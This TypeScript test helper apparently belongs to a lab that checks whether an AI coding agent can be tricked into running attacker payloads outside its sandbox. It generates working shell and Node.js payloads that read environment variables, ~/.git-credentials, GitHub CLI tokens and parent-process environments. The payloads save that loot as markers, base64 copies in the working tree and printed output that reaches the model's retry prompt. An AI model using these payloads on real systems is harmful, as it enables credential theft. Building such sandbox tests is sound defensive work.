/**
 * What the attacker's payloads do when they run: write a marker named after the attempt in the
 * lab's markers folder (outside the repository, so only a payload that runs outside the sandbox
 * can write it), holding what it could reach — its environment, the credentials in HOME, the
 * environments of its ancestors — and copy the same into the working tree, encoded, where the
 * model can read it next. Inside the sandbox both writes fail or find nothing, and the markers
 * folder stays empty.
 */
import type { Lab } from "./lab.test-helper.ts";

/** Single-quotes a string for sh. */
export function shQuote(text: string): string {
  return `'${text.replaceAll("'", `'\\''`)}'`;
}

/**
 * A shell script (for `#!/bin/sh` files, hooks, fsmonitor commands) that leaves attempt `id`'s
 * marker and loot. `loot` is a path relative to where it runs, for the next step to read.
 */
export function payloadScript(lab: Lab, id: string, loot = `loot-${id}.txt`): string {
  const marker = `${lab.markers}/${id}`;
  return [
    "#!/bin/sh",
    `{ echo "attempt ${id} ran as $(id -u) in $PWD"; env; cat "$HOME/.git-credentials" "$HOME/.config/gh/hosts.yml" "$HOME/private/notes.txt";`,
    '  p=$PPID; for i in 1 2 3 4 5 6; do tr "\\0" "\\n" < /proc/$p/environ; p=$(awk \'{print $4}\' /proc/$p/stat); done; } > ' +
      `${shQuote(marker)} 2>&1`,
    `{ env; cat "$HOME/.git-credentials" "$HOME/.config/gh/hosts.yml"; } 2>/dev/null | base64 > ${shQuote(loot)} 2>/dev/null`,
    "exit 0",
    "",
  ].join("\n");
}

/** The same payload as a Node.js program (a test file, a program step, an npm script's target). */
export function payloadNode(lab: Lab, id: string): string {
  const marker = JSON.stringify(`${lab.markers}/${id}`);
  return [
    'const fs = require("node:fs");',
    'const read = (f) => { try { return fs.readFileSync(f, "utf8"); } catch (e) { return String(e.code); } };',
    "const home = process.env.HOME;",
    "let ancestors = ''; let pid = process.ppid;",
    "for (let i = 0; i < 6 && pid > 1; i++) {",
    "  ancestors += read('/proc/' + pid + '/environ').split('\\0').join('\\n');",
    "  pid = Number(read('/proc/' + pid + '/stat').split(' ')[3]);",
    "}",
    "const loot = [JSON.stringify(process.env), read(home + '/.git-credentials'), read(home + '/.config/gh/hosts.yml'), read(home + '/private/notes.txt'), ancestors].join('\\n');",
    `try { fs.writeFileSync(${marker}, \`attempt ${id} ran as \${process.getuid()} in \${process.cwd()}\\n\${loot}\`); } catch {}`,
    `try { fs.writeFileSync("loot-${id}.txt", Buffer.from(loot).toString("base64")); } catch {}`,
    "// Printed too: the output of a check goes into the journal and the retry prompt.",
    'console.log(Buffer.from(loot).toString("base64"));',
    "",
  ].join("\n");
}

/**
 * A shell command that writes `content` to `file` as it is and makes it executable. `file` may
 * name shell variables (`"$PWD/x"`), so it must not hold quotes.
 */
export function writeExecutable(file: string, content: string): string {
  return `mkdir -p "$(dirname "${file}")" && cat > "${file}" <<'CLIMPT_PAYLOAD_END'\n${content}CLIMPT_PAYLOAD_END\nchmod +x "${file}"`;
}

/** A shell command that writes `content` to `file` as it is. */
export function writeFile(file: string, content: string): string {
  return `mkdir -p "$(dirname "${file}")" && cat > "${file}" <<'CLIMPT_PAYLOAD_END'\n${content}CLIMPT_PAYLOAD_END`;
}

/** A shell command that writes `content` to `file`, expanding the shell variables in it (`$PWD`). */
export function writeExpanded(file: string, content: string): string {
  return `mkdir -p "$(dirname "${file}")" && cat > "${file}" <<CLIMPT_PAYLOAD_END\n${content}CLIMPT_PAYLOAD_END`;
}
